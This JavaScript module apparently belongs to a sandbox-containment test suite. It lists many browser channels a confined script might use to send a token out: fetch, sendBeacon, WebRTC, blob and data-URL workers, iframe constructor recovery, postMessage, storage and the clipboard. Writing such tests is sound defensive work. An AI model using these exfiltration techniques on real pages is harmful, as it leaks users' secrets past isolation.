// Channels: scripts that ask for something. Each runs in a document or in a worker as it stands here, knowing nothing
// but its target `to` (target in stage.mjs). One that throws has not got out; the sinks decide about the rest.

export const REQUESTS = [
  {
    name: "fetch",
    both(to) {
      for (const url of [to.foreign, to.own, to.named])
        quiet(fetch(url, { mode: "no-cors", method: "POST", body: to.token }));
      quiet(fetch(to.foreign, { mode: "no-cors", keepalive: true }));
    },
  },
  {
    name: "XMLHttpRequest",
    both(to) {
      const ask = (url, later) => () => {
        const request = new XMLHttpRequest();
        request.open("GET", url, later);
        request.send();
      };
      all(ask(to.foreign, true), ask(to.own, true), ask(to.foreign, false));
    },
  },
  { name: "WebSocket", both: (to) => void new WebSocket(to.socket) },
  { name: "EventSource", both: (to) => [to.foreign, to.own].forEach((url) => new EventSource(url)) },
  {
    name: "sendBeacon",
    document: (to) => [to.foreign, to.own].forEach((url) => navigator.sendBeacon(url, to.token)),
  },
  {
    name: "WebTransport",
    udp: true,
    both(to) {
      const transport = new WebTransport(`https://127.0.0.1:${to.udp}/`);
      quiet(transport.ready);
      quiet(transport.closed);
    },
  },
  { name: "importScripts", worker: (to) => importScripts(`${to.own}.js`, `${to.foreign}.js`) },
  { name: "dynamic import", both: (to) => [to.own, to.foreign].forEach((url) => quiet(import(`${url}.js`))) },
  { name: "font", both: (to) => quiet(new FontFace("exfiltrated", `url("${to.foreign}")`).load()) },
  { name: "worker from a file", nested: true, both: (to) => void new Worker(`${to.own}.js`) },
  {
    name: "worker from a blob",
    nested: true,
    both(to) {
      const script = `fetch("${to.foreign}", { mode: "no-cors" }).catch(() => {}); importScripts("${to.foreign}.js")`;
      void new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
    },
  },
  {
    name: "worker from a data address",
    nested: true,
    both(to) {
      void new Worker(
        `data:text/javascript,${encodeURIComponent(`fetch("${to.foreign}", { mode: "no-cors" }).catch(() => {})`)}`,
      );
    },
  },
  { name: "shared worker", document: (to) => void new SharedWorker(`${to.own}.js`) },
  { name: "service worker", document: (to) => quiet(navigator.serviceWorker.register(`${to.own}.js`)) },
  {
    name: "WebRTC",
    udp: true,
    tcp: true,
    both(to) {
      connect(RTCPeerConnection, to);
    },
  },
  {
    name: "WebRTC, constructor recovered from a child frame",
    udp: true,
    tcp: true,
    document(to) {
      all(
        () => connect(add("iframe", {}).contentWindow.RTCPeerConnection, to),
        () => add("iframe", { srcdoc: `<script>(${connect})(RTCPeerConnection, ${JSON.stringify(to)})</script>` }),
        () =>
          add("iframe", { src: "javascript:void 0" }).contentWindow.eval(
            `(${connect})(RTCPeerConnection, ${JSON.stringify(to)})`,
          ),
      );
    },
  },
  {
    name: "postMessage to the page",
    witnessed: true,
    document(to) {
      all(
        () => parent.postMessage(to.token, "*"),
        () => top.postMessage(to.token, "*"),
      );
    },
  },
  {
    name: "BroadcastChannel",
    witnessed: true,
    both: (to) => new BroadcastChannel("exfiltration").postMessage(to.token),
  },
  {
    name: "storage shared with the site",
    witnessed: true,
    both(to) {
      all(
        () => localStorage.setItem(to.token, "1"),
        () => quiet(caches.open(to.token)),
        () => (indexedDB.open(to.token).onerror = (event) => event.preventDefault()),
      );
    },
  },
  {
    name: "clipboard",
    click: true,
    clipboard: true,
    document(to) {
      const field = add("textarea", { value: to.token });
      field.select();
      all(
        () => document.execCommand("copy"),
        () => quiet(navigator.clipboard.writeText(to.token)),
      );
    },
  },
];
